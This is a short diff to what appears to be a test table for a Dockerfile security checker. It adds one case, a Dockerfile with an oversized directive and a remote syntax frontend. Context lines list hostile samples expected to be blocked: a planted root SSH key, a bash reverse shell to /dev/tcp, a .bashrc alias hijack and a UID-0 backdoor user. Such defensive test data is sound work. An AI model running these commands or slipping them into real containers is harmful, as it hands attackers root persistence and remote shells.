@@ -62,6 +62,7 @@ export const CONTAINER: readonly (Attack | readonly [id: string, expected: Expec
   ["DK-007c", "block", "FROM debian:12\nRUN mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA evil' >> /root/.ssh/authorized_keys\n"],
   ["DK-007d", "block", "FROM debian:12\nCMD bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"],
   ["DK-007f", "block", { Dockerfile: "FROM debian:12\nCOPY rc /root/.bashrc\n", rc: "alias ls=evil\n" }],
+  ["DK-007g", "closed", `# check=${"a".repeat(12_000)}\n# syntax=files.example/x\nFROM debian:12\n`],
   ["DK-007e", "block", "FROM debian:12\nRUN useradd -o -u 0 -p x admin\n"],
 ];
 
